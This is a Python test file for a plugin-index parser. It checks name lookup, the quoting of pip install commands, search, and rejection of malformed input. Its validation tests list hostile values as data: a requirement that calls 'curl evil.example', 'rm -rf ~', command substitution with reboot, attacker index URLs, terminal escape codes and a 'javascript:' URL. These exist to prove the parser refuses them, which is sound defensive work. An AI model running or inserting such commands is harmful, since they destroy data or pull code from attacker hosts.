"""The index of known plugins: what it says, what is found in it, and what is refused."""

from __future__ import annotations

import json
from typing import Any

import pytest

from zoo_core.errors import BadFile
from zoo_core.registry.plugin_index import PluginIndex, parse

NERF = {
    "requirement": "zoo-nerf>=1.2",
    "summary": "Radiance fields",
    "homepage": "https://example.org/zoo-nerf",
    "plugins": ["nerf"],
    "provides": {"recipes": ["zip-nerf"], "models": ["nerf/*", "zip-nerf"], "weights": ["zip-nerf-garden@2"]},
}


def index(*entries: Any, **document: Any) -> PluginIndex:
    return parse(json.dumps({"format": 1, "plugins": entries, **document}).encode(), "plugins.json")


@pytest.mark.parametrize(
    ("name", "kinds"),
    [
        ("zip-nerf", ["recipe", "model"]),
        ("nerf/zip-nerf", ["recipe", "model"]),
        ("nerf/mip/large", ["model"]),
        ("zip-nerf-garden", ["weights"]),
        ("zip-nerf-garden@2", ["weights"]),
        ("nerf", ["plugin"]),
        ("nerf/", ["model"]),
        ("zip-nerf-garden@3", []),
        ("zip", []),
        ("other/zip-nerf", []),
    ],
)
def test_a_name_is_found_by_itself_with_its_plugin_and_as_a_member_of_a_family(name: str, kinds: list[str]) -> None:
    (plugin,) = index(NERF).plugins
    assert plugin.kinds_of(name) == kinds


def test_the_command_that_installs_a_plugin_is_quoted_for_a_shell() -> None:
    plain, versions, extras = index(
        {"requirement": "zoo-nerf"},
        {"requirement": "zoo-nerf >= 1.2, != 1.3.*"},
        {"requirement": "Zoo_Nerf[cuda,viewer]~=1.2"},
    ).plugins
    assert plain.install == "pip install zoo-nerf"
    assert versions.install == "pip install 'zoo-nerf>=1.2,!=1.3.*'"
    assert extras.install == "pip install 'Zoo_Nerf[cuda,viewer]~=1.2'"
    assert extras.distribution == "Zoo_Nerf"


def test_the_installed_version_is_compared_with_the_one_that_is_asked_for() -> None:
    old, new, absent = index(
        {"requirement": "pluggy>=1"}, {"requirement": "pluggy>=99"}, {"requirement": "zoo-nerf"}
    ).plugins
    assert (old.is_satisfied, new.is_satisfied, absent.is_satisfied) == (True, False, False)
    assert old.installed == new.installed
    assert absent.installed is None


@pytest.mark.parametrize("word", ["", "NERF", "radiance", "zip-nerf", "garden", "nerf/mip", "zoo-nerf"])
def test_a_word_is_searched_in_all_texts_and_among_the_members_of_families(word: str) -> None:
    found = index(NERF, {"requirement": "zoo-other"}).search(word)
    assert [one.distribution for one in found] == ["zoo-nerf", "zoo-other"][: 2 if word == "" else 1]


def test_what_a_later_version_of_the_format_may_add_is_left_alone() -> None:
    (plugin,) = index({**NERF, "maintainer": {"name": "N"}, "provides": {"samplers": ["ddim"]}}, updated="2026").plugins
    assert plugin.kinds_of("ddim") == ["sampler"]


@pytest.mark.parametrize(
    "requirement",
    [
        "--index-url=https://evil.example zoo-nerf",
        "-r https://evil.example/all.txt",
        "zoo-nerf @ https://evil.example/zoo.whl",
        "zoo-nerf@git+https://evil.example/zoo",
        "git+https://evil.example/zoo",
        "zoo-nerf; rm -rf ~",
        'zoo-nerf; python_version > "3"',
        "zoo-nerf && curl evil.example",
        "zoo-nerf===$(reboot)",
        "zoo-nerf===`reboot`",
        "zoo-nerf===1\x1b[2J",
        "zoo-nerf zoo-other",
        "zoo-nerf\nzoo-other",
        "zoo-nerf>=1.2\n",
        "./zoo-nerf",
        "zoo\u2013nerf",
        "",
        "a" * 600,
        None,
        3,
        ["zoo-nerf"],
        {"name": "zoo-nerf"},
    ],
    ids=repr,
)
def test_what_pip_would_take_as_more_than_a_name_and_versions_is_refused(requirement: Any) -> None:
    with pytest.raises(BadFile, match=r"as plugins\[1\]\.requirement, but should have a distribution") as caught:
        index(NERF, {**NERF, "requirement": requirement})
    assert caught.value.message.isprintable()
    assert len(str(caught.value).splitlines()) == 2


@pytest.mark.parametrize(
    ("changes", "place"),
    [
        ({"summary": "two\nlines"}, "summary"),
        ({"summary": "\x1b[31mred"}, "summary"),
        ({"summary": "right to left \u202e"}, "summary"),
        ({"summary": "a paragraph\u2029"}, "summary"),
        ({"summary": "x" * 1000}, "summary"),
        ({"summary": 1}, "summary"),
        ({"homepage": "javascript:alert(1)"}, "homepage"),
        ({"homepage": "https://example.org/\x07"}, "homepage"),
        ({"homepage": []}, "homepage"),
        ({"plugins": "nerf"}, "plugins"),
        ({"plugins": ["\x1b]0;title\x07"]}, "plugins"),
        ({"provides": ["zip-nerf"]}, "provides"),
        ({"provides": {"models; ls": []}}, "provides"),
        ({"provides": {"\x1b[31m": []}}, "provides"),
        ({"provides": {"models": "zip-nerf"}}, "provides.models"),
        ({"provides": {"models": {"zip-nerf": 1}}}, "provides.models"),
        ({"provides": {"models": [1]}}, "provides.models"),
        ({"provides": {"models": ["*"]}}, "provides.models"),
        ({"provides": {"models": ["z*p-nerf"]}}, "provides.models"),
        ({"provides": {"models": ["zip nerf"]}}, "provides.models"),
        ({"provides": {"models": ["zip-nerf'; reboot"]}}, "provides.models"),
        ({"provides": {"models": [True]}}, "provides.models"),
    ],
    ids=repr,
)
def test_a_text_or_a_type_that_is_not_what_it_should_be_is_refused(changes: dict[str, Any], place: str) -> None:
    with pytest.raises(BadFile) as caught:
        index({**NERF, **changes})
    assert f"as plugins[0].{place}, but should have" in caught.value.message
    assert caught.value.message.isprintable()
    assert caught.value.hint == "Ask its author to correct it, or unset ZOO_PLUGIN_INDEX."


@pytest.mark.parametrize(
    ("content", "said"),
    [
        (b"", "is not JSON"),
        (b"{", "is not JSON"),
        (b"\xff\xfe", "is not text in UTF-8."),
        ('{"format": 1}'.encode("utf-16"), "is not text in UTF-8."),
        (b'{"format": 1, "a": "\xe9"}', "is not text in UTF-8."),
        (b"<html>", "is not JSON"),
        (b"[" * 1_000_000, "is not JSON: it is nested too deeply"),
        (b'{"format": 1, "plugins": ' + b'{"a":' * 100_000, "is not JSON"),
        (b'{"format": 1, "format": 1}', "is not JSON: duplicate key 'format'."),
        (b'{"format": NaN}', "is not JSON: it holds NaN"),
        (b'{"format": ' + b"9" * 10_000 + b"}", "is not JSON"),
        (b"null", "is not an index of plugins"),
        (b"[]", "is not an index of plugins"),
        (b"{}", "is not an index of plugins"),
        (b'{"format": true, "plugins": []}', "is not an index of plugins"),
        (b'{"format": "1", "plugins": []}', "is not an index of plugins"),
        (b'{"format": 1}', "has nothing as plugins"),
        (b'{"format": 1, "plugins": {}}', "has a mapping as plugins"),
        (b'{"format": 1, "plugins": ["zoo-nerf"]}', "has 'zoo-nerf' as plugins[0]"),
        (b'{"format": 1, "plugins": [null]}', "has nothing as plugins[0]"),
    ],
)
def test_what_is_not_an_index_is_refused_in_two_lines(content: bytes, said: str) -> None:
    with pytest.raises(BadFile) as caught:
        parse(content, "plugins.json")
    assert caught.value.message.startswith(f"the plugin index plugins.json {said}")
    assert len(str(caught.value).splitlines()) == 2


def test_an_index_of_a_later_format_asks_for_a_later_zoo() -> None:
    with pytest.raises(BadFile, match="has format 2, but this zoo reads format 1") as caught:
        index(format=2)
    assert caught.value.hint == "Update zoo: pip install --upgrade zoo-core"


def test_what_is_refused_is_shown_escaped_once() -> None:
    with pytest.raises(BadFile, match=r"has 'a\\x1b\[31m\\nb' as plugins\[0\]\.summary, but should have one line"):
        index({**NERF, "summary": "a\x1b[31m\nb"})
    with pytest.raises(BadFile, match=r"has 'M\u00f6dels' as plugins\[0\]\.provides, but should have kinds as keys"):
        index({**NERF, "provides": {"M\u00f6dels": []}})
    with pytest.raises(BadFile, match=f"has '{'x' * 60}\N{HORIZONTAL ELLIPSIS}' as"):
        index({**NERF, "summary": "x" * 1000})


def test_spaces_of_any_width_and_a_byte_order_mark_are_text() -> None:
    content = json.dumps({"format": 1, "plugins": [{**NERF, "summary": "a\u00a0b\u202fc"}]}).encode("utf-8-sig")
    assert parse(content, "plugins.json").plugins[0].summary == "a\u00a0b\u202fc"


def test_a_plugin_is_found_by_words_in_any_order() -> None:
    known = index({**NERF, "summary": "Radiance fields"})
    assert [len(known.search(words)) for words in ("fields radiance", "NERF  fields", "fields gan", "")] == [1, 1, 0, 1]


@pytest.mark.parametrize(
    ("name", "similar"),
    [
        ("zip-nrf", "zip-nerf"),
        ("nref/mip", "nerf/mip"),  # the prefix of a family
        ("nref", "nerf"),  # a plugin
        ("gan/mip", None),
        ("clsgan", None),
    ],
)
def test_the_most_similar_name_is_that_of_a_recipe_a_plugin_or_a_family(name: str, similar: str | None) -> None:
    known = index({**NERF, "plugins": ["nerf"], "provides": {"recipes": ["zip-nerf"], "models": ["nerf/*"]}})
    found = known.similar(name)
    assert (found[0] if found else None) == similar
